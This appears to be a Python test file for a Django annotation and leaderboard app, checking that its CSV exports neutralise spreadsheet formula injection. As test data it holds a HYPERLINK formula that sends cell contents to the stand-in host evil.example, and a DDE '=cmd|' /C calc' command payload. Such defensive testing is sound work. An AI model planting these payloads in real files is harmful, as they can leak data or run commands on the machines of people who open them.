"""Every CSV Concord writes neutralises formula-like cells (see core/csvsafe.py)."""

from __future__ import annotations

import csv
import io
import json
from decimal import Decimal

from django.test import Client

from annotation.models import PayEntry
from annotation.services.assignments import assignment_claim_next
from tests.annotation.work_helpers import make_pairs, submit
from tests.conftest import PASSWORD, Cast

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def test_the_pay_ledger_csv_writes_a_formula_reason_as_text(client: Client, cast: Cast) -> None:
    study = cast.study
    study.gold_share = Decimal(0)
    study.save()
    make_pairs(study, 1)
    assignment = assignment_claim_next(worker=cast.worker_one)
    assert assignment is not None
    submit(assignment, likert_shown=2)
    PayEntry.objects.filter(worker=cast.worker_one).update(reason=FORMULA)
    assert client.login(username="rhea-researcher", password=PASSWORD)
    body = client.get(f"/studies/{study.slug}/payouts.csv").content.decode()
    (row,) = list(csv.reader(io.StringIO(body)))[1:]
    assert row[5] == "'" + FORMULA
    assert row[3] == "15"


def test_the_raw_judgments_csv_neutralises_a_worker_comment_and_jsonl_keeps_it(
    cast: Cast,
) -> None:
    from annotation.models import HumanJudgment
    from leaderboard.services.exports import study_export

    study = cast.study
    study.gold_share = Decimal(0)
    study.save()
    make_pairs(study, 1)
    assignment = assignment_claim_next(worker=cast.worker_one)
    assert assignment is not None
    submit(assignment, likert_shown=2)
    HumanJudgment.objects.update(comment=FORMULA)
    body = study_export(study=study, table="judgments", fmt="csv").decode()
    (row,) = list(csv.DictReader(io.StringIO(body)))
    assert row["comment"] == "'" + FORMULA
    jsonl = study_export(study=study, table="judgments", fmt="jsonl").decode()
    (record,) = [json.loads(line) for line in jsonl.splitlines() if line]
    assert record["comment"] == FORMULA


def test_the_analysis_table_csv_neutralises_text_and_keeps_numbers() -> None:
    from leaderboard.report.base import Table
    from leaderboard.report.document import table_to_csv

    table = Table(
        name="t", title="T", columns=("category", "score"), rows=(("=cmd|' /C calc'!A0", -1.5),)
    )
    rows = list(csv.reader(io.StringIO(table_to_csv(table).decode())))
    assert rows[1] == ["'=cmd|' /C calc'!A0", "-1.5"]


def test_the_report_csv_neutralises_its_paths_and_values() -> None:
    from leaderboard.report.document import payload_to_csv

    rows = list(csv.reader(io.StringIO(payload_to_csv({"@evil": -2, "x": "+1+1"}).decode())))
    assert rows[1:] == [["'@evil", "-2"], ["x", '"+1+1"']]
